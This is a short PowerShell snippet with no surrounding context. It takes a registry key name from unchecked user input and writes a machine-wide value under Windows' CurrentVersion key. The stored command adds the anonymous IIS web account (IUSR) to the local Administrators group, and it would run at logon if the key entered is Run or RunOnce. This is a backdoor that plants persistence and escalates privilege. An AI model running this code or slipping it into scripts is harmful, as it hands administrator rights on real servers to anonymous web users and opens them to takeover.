$key = Read-Host
Set-ItemProperty "HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\$key" -Name setup -Value 'net localgroup Administrators IUSR /add'
